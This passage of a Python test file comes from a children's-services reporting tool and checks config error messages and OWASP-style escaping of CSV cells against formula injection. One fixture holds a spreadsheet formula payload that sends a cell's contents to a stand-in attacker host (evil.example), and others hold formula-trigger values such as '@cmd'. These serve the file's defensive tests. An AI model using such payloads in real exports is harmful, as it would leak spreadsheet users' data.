        "1 problem found; nothing was written.",
    ]


def it_says_when_a_rule_needs_a_column_annex_a_does_not_have(tmp_path: Path) -> None:
    root = write_project(tmp_path, P3, {})
    annex_a_workbook(root / "data" / "cases" / "annex-a.xlsx", [])
    assert problems_of(root) == [
        "data/cases/annex-a.xlsx (List 8):1: RNE: is not in Annex A's list of episodes, and a "
        "rule counts from it — give the episodes table as the SSDA903 has it (episodes.csv) "
        "instead of the Annex A sheet, or map a column of the sheet to it under "
        "`case_records: columns: episodes:` in config/authority.yaml"
    ]


def it_writes_the_childrens_records_so_that_a_spreadsheet_runs_no_formula(
    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Child ids come from other people's systems: a cell that starts with = + - or @ is
    written with a single quote before it (OWASP's advice on CSV injection), the rest as it
    was; a plain number such as a negative count is data, and so are the counts."""
    ids = {
        '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+SUM(1,2)": "'+SUM(1,2)",
        "-2+3": "'-2+3",
        "@cmd": "'@cmd",
        "-7": "-7",
        "A'1": "A'1",
    }
    rows = "".join(
        f'"{i.replace(chr(34), chr(34) * 2)}",2026-09-0{n},2026-09-1{n}\n'
        for n, i in enumerate(ids, 1)
    )
    table = "LAchildID,AssessmentActualStartDate,AssessmentAuthorisationDate\n" + rows
    root = write_project(tmp_path, SA45, {"assessments.csv": table})
    monkeypatch.chdir(root)
    result = cli("explain", "SA45", "--period", "2026-09")
    assert result.exit_code == 0, result.stderr
    with (root / "out/explain/SA45-2026-09.csv").open(newline="", encoding="utf-8") as file:
        header, *read = list(csv.reader(file))
    assert header[:2] == ["child", "line"] and header[6] == "measure"
    by_line = {int(row[1]): row for row in read}
    assert [by_line[n][0] for n in range(2, 2 + len(ids))] == list(ids.values())
    assert all(row[6].isdigit() for row in read)  # working days: numbers, as they were


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-A1", "'-A1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a plain number is data
        ("+4.5", "+4.5"),
        ("-1e3", "-1e3"),
        ("A-1", "A-1"),
        ("", ""),
        (-3, -3),  # numbers are not text
    ],
)
def it_makes_a_cell_safe_for_a_spreadsheet_as_owasp_advises(cell: object, written: object) -> None:
    from reportgen.jobs.explain import csv_safe

    assert csv_safe(cell) == written
